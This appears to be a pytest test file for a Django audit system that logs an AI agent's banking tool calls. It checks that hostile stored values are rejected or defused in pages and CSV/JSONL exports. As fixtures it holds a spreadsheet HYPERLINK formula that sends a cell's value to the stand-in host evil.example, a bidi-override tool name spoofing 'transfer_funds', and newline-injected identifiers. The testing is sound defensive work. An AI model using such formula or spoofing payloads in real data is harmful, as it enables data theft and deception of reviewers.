"""Stored values an agent chose cannot break, spoof or arm a page or an export.

Items: a session id with a trailing newline (every page linking it answered
500), formula-shaped cells in the CSV export, bidi controls that make one
tool name read as another. Over HTTP through the whole middleware stack.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.utils import timezone

from audit.export import csv_cell_unescape
from audit.models import Alert, AuditEntry
from core.display import mark_invisible, unmark_invisible
from tests.audit.entries import append, event
from tests.conftest import Bank, agent_client, signed_in, transfer_call

pytestmark = pytest.mark.django_db

NEWLINE_SESSION = "sess-nl\n"
SPOOFED_TOOL = "\u202esdnuf_refsnart"  # reads as "transfer_funds"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def hostile_entry() -> AuditEntry:
    (entry,) = append(
        event(
            session_id=NEWLINE_SESSION,
            tool=SPOOFED_TOOL,
            tool_call_id="call\nid",
            approval_id="appr\n",
            idempotency_key="-2-2",
            details={"requested_tool": FORMULA},
        )
    )
    return entry


def test_an_agent_cannot_store_a_session_id_with_a_trailing_newline(bank: Bank) -> None:
    response = agent_client(bank.alice_key).post(
        "/api/v1/tool-calls", transfer_call(key="nl1", session=NEWLINE_SESSION), format="json"
    )
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "malformed_request"
    assert not AuditEntry.objects.filter(session_id=NEWLINE_SESSION).exists()


def test_an_identifier_argument_with_a_trailing_newline_is_invalid(bank: Bank) -> None:
    body = transfer_call(key="nl2")
    body["arguments"]["to_account"] = "savings\n"
    response = agent_client(bank.alice_key).post("/api/v1/tool-calls", body, format="json")
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "validation_failed"
    assert response.json()["error"]["details"][0]["path"] == "/to_account"


@pytest.mark.parametrize("url", ["/audit/", "/audit/?session=sess-nl%0A", "/audit/alerts/"])
def test_pages_listing_a_hostile_stored_value_still_answer(bank: Bank, url: str) -> None:
    entry = hostile_entry()
    Alert.objects.create(
        rule=Alert.Rule.INJECTION_SPIKE,
        severity=Alert.Severity.WARNING,
        subject="session:x",
        customer="alice",
        session_id=NEWLINE_SESSION,
        entry=entry,
        created_at=timezone.now(),
    )
    response = signed_in(bank.compliance).get(url)
    assert response.status_code == 200
    html = response.content.decode()
    # The newline is shown, and the link leads to the session's own timeline.
    assert "sess-nl⟨U+000A⟩" in html
    assert 'href="/audit/sessions/sess-nl%0A/' in html


def test_the_entry_page_and_the_timelines_of_a_hostile_entry_answer(bank: Bank) -> None:
    entry = hostile_entry()
    client = signed_in(bank.compliance)
    html = client.get(f"/audit/entries/{entry.id}/").content.decode()
    assert "/audit/tool-calls/call%0Aid/" in html and "/audit/approvals/appr%0A/" in html
    for url in ("/audit/sessions/sess-nl%0A/", "/audit/tool-calls/call%0Aid/", "/audit/approvals/appr%0A/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert f'data-entry-id="{entry.id}"' in response.content.decode(), url


def test_bidi_controls_are_shown_as_code_points_not_obeyed(bank: Bank) -> None:
    entry = hostile_entry()
    client = signed_in(bank.compliance)
    for url in ("/audit/", f"/audit/entries/{entry.id}/"):
        html = client.get(url).content.decode()
        assert "⟨U+202E⟩sdnuf_refsnart" in html, url
        assert "\u202e" not in html, url


def test_a_spoofed_memo_and_session_are_visible_on_the_review_page(bank: Bank) -> None:
    body = transfer_call(key="spoof1", amount=2_000_000, session="spoof-sess", memo="rent\u202eyap\u200b")
    held = agent_client(bank.alice_key).post("/api/v1/tool-calls", body, format="json")
    assert held.status_code == 202
    html = signed_in(bank.reviewer).get(f"/review/{held.json()['approval_id']}/").content.decode()
    assert "\u202e" not in html and "\u200b" not in html
    # The sanitizer strips these from the memo; what is left is stored and shown as is.
    # A hidden character that reaches storage by any other way is marked (see the entry above).


def export_rows(client: Client, **filters: str) -> list[dict[str, str]]:
    response = client.get("/api/v1/audit/export", {"format": "csv", **filters})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(bank: Bank) -> None:
    # No action: the chain takes only the names core.enums.AuditAction gives, none of them a formula.
    append(event(session_id="-1-1", tool=FORMULA, idempotency_key="-2-2", actor="@SUM(A1)"))
    rows = export_rows(signed_in(bank.compliance), session="-1-1")
    assert len(rows) == 1
    row = rows[0]
    for name in ("session_id", "tool", "idempotency_key", "actor"):
        assert row[name].startswith("'"), (name, row[name])
    assert row["tool"] == "'" + FORMULA
    # The escaping reads back to the stored values exactly.
    assert csv_cell_unescape(row["session_id"]) == "-1-1"
    assert csv_cell_unescape(row["tool"]) == FORMULA


def test_csv_and_jsonl_exports_show_hidden_characters_and_read_back(bank: Bank) -> None:
    hostile_entry()
    client = signed_in(bank.compliance)
    (row,) = export_rows(client, session=NEWLINE_SESSION)
    assert row["tool"] == "⟨U+202E⟩sdnuf_refsnart"
    assert csv_cell_unescape(row["tool"]) == SPOOFED_TOOL
    assert csv_cell_unescape(row["session_id"]) == NEWLINE_SESSION
    response = client.get("/api/v1/audit/export", {"format": "jsonl", "session": NEWLINE_SESSION})
    line = b"".join(response.streaming_content).decode()
    assert "\u202e" not in line and "\\u202e" in line
    assert json.loads(line)["tool"] == SPOOFED_TOOL


@pytest.mark.parametrize(
    "stored",
    ["plain", "\u202eabc", "a\u200bb", "tab\there", "⟨U+0041⟩ literal", "emoji 😀 and \U000e0041 tag", "nl\n"],
)
def test_marking_hidden_characters_is_reversible(stored: str) -> None:
    assert unmark_invisible(mark_invisible(stored)) == stored
